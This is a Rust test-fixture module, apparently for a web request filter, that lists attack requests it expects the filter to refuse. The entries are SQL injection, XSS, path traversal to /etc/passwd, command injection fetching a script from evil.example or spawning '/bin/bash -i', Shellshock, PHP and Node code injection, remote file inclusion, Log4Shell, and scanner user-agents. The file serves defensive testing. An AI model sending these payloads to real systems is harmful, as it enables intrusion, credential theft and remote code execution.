//! Requests of attackers: all are to be refused.

/// What is attacked, and the target of a `GET`.
pub(super) const TARGETS: &[(&str, &str)] = &[
    ("SQL injection, always true", "/items?id=1%27%20OR%20%271%27=%271"),
    ("SQL injection, union", "/items?id=-1%20UNION%20SELECT%20username,password%20FROM%20users--"),
    ("SQL injection, stacked", "/items?id=1;%20DROP%20TABLE%20users--"),
    ("SQL injection, blind", "/items?id=1%20AND%20SLEEP(5)"),
    (
        "SQL injection, schema",
        "/items?q=%27%20union%20select%20table_name%20from%20information_schema.tables--%20-",
    ),
    ("XSS, script", "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"),
    ("XSS, handler", "/search?q=%3Cimg%20src=x%20onerror=alert(1)%3E"),
    ("XSS, svg", "/search?q=%3Csvg/onload=alert(1)%3E"),
    ("XSS, javascript link", "/search?q=%3Ca%20href=javascript:alert(1)%3Ex%3C/a%3E"),
    ("path traversal", "/files?name=../../../../etc/passwd"),
    ("path traversal, encoded", "/files/..%2f..%2f..%2fetc%2fpasswd"),
    ("path traversal, encoded twice", "/files?name=%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("path traversal, Windows", "/files?name=..%5c..%5cwindows%5cwin.ini"),
    ("file of secrets", "/.env"),
    ("file of git", "/.git/config"),
    ("command, semicolon", "/ping?host=127.0.0.1;cat%20/etc/passwd"),
    ("command, substitution", "/ping?host=$(wget%20http://evil.example/x.sh)"),
    ("command, pipe", "/ping?host=x%7C/bin/bash%20-i"),
    ("shellshock in a query", "/?x=()%20%7B%20:;%7D;%20echo%20vulnerable"),
    ("PHP injection", "/?page=php://filter/convert.base64-encode/resource=index.php"),
    ("PHP code", "/?x=%3C?php%20system($_GET%5B%27c%27%5D);?%3E"),
    ("remote file", "/?page=http://203.0.113.9/shell.txt?"),
    ("Node.js injection", "/?x=require(%27child_process%27).exec(%27id%27)"),
    ("Log4Shell", "/?x=$%7Bjndi:ldap://evil.example/a%7D"),
    ("response splitting", "/?to=%0d%0aSet-Cookie:%20a=b"),
];

/// What is attacked, and a header.
pub(super) const HEADERS: &[(&str, &str, &str)] = &[
    ("scanner sqlmap", "user-agent", "sqlmap/1.8.4#stable (https://sqlmap.org)"),
    ("scanner Nikto", "user-agent", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)"),
    ("scanner Nessus", "user-agent", "Nessus SOAP v0.0.1"),
    (
        "scanner Nmap",
        "user-agent",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    ),
    ("scanner wpscan", "user-agent", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"),
    ("shellshock", "user-agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'"),
    ("SQL injection in a cookie", "cookie", "session=1' OR '1'='1"),
    ("XSS in a referrer", "referer", "https://x.example/<script>alert(1)</script>"),
];

/// What is attacked, the media type, and the body of a `POST`.
pub(super) const BODIES: &[(&str, &str, &str)] = &[
    ("SQL injection in a form", "application/x-www-form-urlencoded", "user=admin%27--&password=x"),
    (
        "SQL injection in JSON",
        "application/json",
        r#"{"user": {"name": "' UNION SELECT password FROM users--"}}"#,
    ),
    ("XSS in JSON", "application/json; charset=utf-8", r#"{"comment": ["<script>alert(1)</script>"]}"#),
    ("XSS in escaped JSON", "application/json", r#"{"c": "\u003cscript\u003ealert(1)\u003c/script\u003e"}"#),
    ("a command in JSON that is none", "application/json", "{'host': 'x; cat /etc/passwd'}"),
    ("XSS in a vendor's JSON", "application/vnd.api+json", r#"{"c": "<script>alert(1)</script>"}"#),
    ("path traversal in a form", "application/x-www-form-urlencoded", "file=..%2F..%2F..%2Fetc%2Fpasswd"),
    (
        "XSS in a multipart form",
        "multipart/form-data; boundary=b",
        "--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n<script>alert(1)</script>\r\n--b--\r\n",
    ),
    (
        "XSS in XML",
        "application/xml",
        "<?xml version=\"1.0\"?><a><b>&lt;script&gt;alert(1)&lt;/script&gt;</b></a>",
    ),
];
